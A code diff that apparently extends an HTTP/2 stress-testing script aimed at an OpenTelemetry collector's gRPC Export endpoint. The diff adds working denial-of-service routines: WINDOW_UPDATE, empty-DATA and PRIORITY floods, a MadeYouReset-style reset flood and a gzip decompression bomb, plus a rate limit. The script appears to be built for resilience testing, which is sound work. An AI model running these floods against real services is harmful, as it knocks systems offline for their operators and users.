@@ -21,7 +21,8 @@ import time
 import hpack
 
 PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
+    0, 1, 2, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
 EXPORT = '/opentelemetry.proto.collector.trace.v1.TraceService/Export'
 
@@ -119,11 +120,17 @@ def raise_nofile(n):
 
 def flood(args, build, per_turn=64):
     """Connections that each send `build(conn)` frames as fast as the server
-    takes them, reconnecting when closed, until --seconds pass."""
+    takes them (or, with --rate, at most that many a second in all),
+    reconnecting when closed, until --seconds pass."""
     stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
     conns = []
-    deadline = time.monotonic() + args.seconds
+    most = per_turn
+    start = time.monotonic()
+    deadline = start + args.seconds
     while time.monotonic() < deadline:
+        if args.rate:
+            allowed = int(args.rate * (time.monotonic() - start)) - stats['frames']
+            per_turn = max(0, min(most, allowed // max(1, args.conns)))
         while len(conns) < args.conns:
             try:
                 conns.append(Conn(args.port))
@@ -144,6 +151,60 @@ def flood(args, build, per_turn=64):
     for c in conns:
         c.close()
     return stats
+
+
+def window_update_flood(args):
+    # WINDOW_UPDATE of 1 on the connection, over and over (the window never
+    # overflows: 2^31 of them would be needed).
+    return flood(args, lambda c: frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', 1)))
+
+
+def empty_data_flood(args):
+    # One call opened, then DATA frames with no payload and no END_STREAM.
+    def build(c):
+        if getattr(c, 'open_sid', None) is None:
+            c.open_sid = c.stream_id()
+            return frame(HEADERS, END_HEADERS, c.open_sid, plain_block(args.port))
+        return frame(DATA, 0, c.open_sid)
+    return flood(args, build)
+
+
+def priority_flood(args):
+    # PRIORITY frames for idle streams, dependency 0, weight 16.
+    def build(c):
+        c.prio = getattr(c, 'prio', 0) % 1000 + 1
+        return frame(PRIORITY, 0, 2 * c.prio + 1, struct.pack('>IB', 0, 15))
+    return flood(args, build)
+
+
+def server_reset_flood(args):
+    # MadeYouReset's window-overflow shape: a call opened, then a
+    # WINDOW_UPDATE that overflows its window, which the server answers
+    # with RST_STREAM FLOW_CONTROL_ERROR (a reset of ours, not the client's).
+    def build(c):
+        sid = c.stream_id()
+        return (frame(HEADERS, END_HEADERS, sid, plain_block(args.port)) +
+                frame(WINDOW_UPDATE, 0, sid, struct.pack('>I', 0x7fffffff)))
+    return flood(args, build)
+
+
+def gzip_bomb(args):
+    # Complete Export calls (grpc-encoding gzip) whose message inflates
+    # from about 4 KB to --declare bytes of zeros (no valid request).
+    import zlib
+    z = zlib.compressobj(9, zlib.DEFLATED, 31)
+    msg = z.compress(b'\0' * args.declare) + z.flush()
+    body = b'\x01' + struct.pack('>I', len(msg)) + msg
+    enc = b'\x00' + hpack_int(13, 7, 0) + b'grpc-encoding' + hpack_int(4, 7, 0) + b'gzip'
+
+    def build(c):
+        sid = c.stream_id()
+        out = frame(HEADERS, END_HEADERS, sid, plain_block(args.port) + enc)
+        for off in range(0, len(body), 16384):
+            last = off + 16384 >= len(body)
+            out += frame(DATA, END_STREAM if last else 0, sid, body[off:off + 16384])
+        return out
+    return flood(args, build, per_turn=1)
 
 
 def rapid_reset(args):
@@ -388,6 +449,11 @@ def partial_hold(args):
 ATTACKS = {
     'partial_hold': partial_hold,
     'rapid_reset': rapid_reset,
+    'window_update_flood': window_update_flood,
+    'empty_data_flood': empty_data_flood,
+    'priority_flood': priority_flood,
+    'server_reset_flood': server_reset_flood,
+    'gzip_bomb': gzip_bomb,
     'continuation': continuation,
     'header_list': header_list,
     'hpack_bomb': hpack_bomb,
@@ -411,6 +477,8 @@ def main():
                    help='partial_hold: the message length each call declares')
     p.add_argument('--send', type=int, default=240 << 10,
                    help='partial_hold: the bytes of it sent, then silence')
+    p.add_argument('--rate', type=float, default=0,
+                   help='flood attacks: at most this many frames (gzip_bomb: calls) a second in all')
     args = p.parse_args()
     # The hand-built header block must be what it claims: Debian's HPACK
     # decoder reads it back first.
